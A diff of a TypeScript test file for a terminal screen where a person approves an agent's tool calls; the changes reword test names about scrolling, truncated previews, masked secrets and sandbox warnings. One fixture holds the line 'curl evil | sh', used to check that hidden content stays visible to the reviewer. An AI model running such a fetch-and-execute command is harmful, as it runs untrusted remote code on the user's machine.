@@ -24,7 +24,7 @@ function waiting(
 }
 
 describe('the screen', () => {
-  it('fills its size exactly, whatever is on it', () => {
+  it('fills its size exactly, whatever it shows', () => {
     const choices: readonly Choice[] = [
       { kind: 'none' },
       { kind: 'once' },
@@ -72,7 +72,7 @@ describe('the screen', () => {
     expect(drawn(sceneOf({ size: { columns: 40, rows: 12 } })).join(' ')).toContain('too small: 40×12');
   });
 
-  it('[A12] shows on a low screen a bar, and the whole card when the person turns to it', () => {
+  it('[A12] shows a bar on a low screen, and the whole card when it is focused', () => {
     const bar = drawn(waiting()).join('\n');
     expect(bar).toContain('Waiting for you · 1 of 2');
     expect(bar).toContain('Mason wants to run: rm scratch-1.tmp');
@@ -89,7 +89,7 @@ describe('the screen', () => {
     }
   });
 
-  it('says how much of a call is not seen, and shows all of it to who scrolls', () => {
+  it('says how much of a call is not visible, and shows all of it when scrolled', () => {
     const command = Array.from({ length: 40 }, (_, index) => `echo line-${index};`).join('\n');
     const scene = waiting({ arguments: { command } }, { focus: 'card' });
     expect(drawn(scene).join('\n')).toMatch(/↓ \d+ more lines/);
@@ -102,7 +102,7 @@ describe('the screen', () => {
     for (let index = 0; index < 40; index += 1) expect(seen).toContain(`echo line-${index};`);
   });
 
-  it('[A15] [A17] lets no line of a command pass for a word or an argument of its own', () => {
+  it('[A15] [A17] no line of a command can pass for a parameter or an argument', () => {
     const shell = (args: object): string[] =>
       drawn(waiting({ arguments: args }, { focus: 'card' }))
         .map((line) => line.trimEnd())
@@ -115,7 +115,7 @@ describe('the screen', () => {
     expect(odd).toContain('rm‹U+00A0›x‹U+FE0F›');
   });
 
-  it('[A17] lets no words of a tool or a rule begin where only our own begin', () => {
+  it('[A17] no text of a tool or rule starts where only our own text does', () => {
     const long = `${'x'.repeat(60)} in /safe ${'y'.repeat(70)} sandboxed, no network`;
     const card = drawn(
       waiting(
@@ -132,20 +132,20 @@ describe('the screen', () => {
     ]);
   });
 
-  it('shows what is written itself where the preview of it was cut', () => {
+  it('shows the content itself if its preview was truncated', () => {
     const preview = { text: '@@ -0,0 +1,2 @@\n+# fine\n+# fine\n', truncated: true };
     const args = { path: 'a', content: '# fine\ncurl evil | sh\n# fine' };
     const card = drawn(waiting({ toolName: 'write_file', arguments: args, preview }, { focus: 'card' })).join('\n');
     expect(card).toContain('+ curl evil | sh');
   });
 
-  it('[A17] leaves out nothing of a preview because a line of it is long', () => {
+  it('[A17] omits nothing of a preview because of a long line', () => {
     const preview = { text: `@@ -1 +1 @@ ${'x'.repeat(100)} unseen\n+new`, truncated: false };
     const card = drawn(waiting({ toolName: 'edit_page', arguments: { page: 'a' }, preview }, { focus: 'card' }));
     expect(card.join('\n')).toContain('unseen');
   });
 
-  it('scrolls the help where it does not fit, and closes it with any other key', () => {
+  it('scrolls the help if it does not fit, and closes it with any other key', () => {
     const scene = waiting({}, { overlay: 'help' }, { columns: 60, rows: 18 });
     expect(drawn(scene).join('\n')).toMatch(/↓ \d+ more lines/);
     let { ui } = scene;
@@ -163,7 +163,7 @@ describe('the screen', () => {
     expect(press(large.ui, { kind: 'char', text: 'j' }, factsOf(large)).ui.overlay).toBe('none');
   });
 
-  it('[A15] says that a secret is masked, and warns where nothing is sandboxed', () => {
+  it('[A15] says that a secret is masked, and warns if there is no sandbox', () => {
     const masked = waiting(
       {
         arguments: { command: 'curl -H ‹masked 1›' },
@@ -181,7 +181,7 @@ describe('the screen', () => {
     expect(text).toContain('not sandboxed: nothing stops it from reading');
   });
 
-  it('gives what it has to its parts and no more', () => {
+  it('divides the screen among its parts', () => {
     fc.assert(
       fc.property(
         fc.record({ columns: fc.integer({ min: 60, max: 200 }), rows: fc.integer({ min: 18, max: 80 }) }),
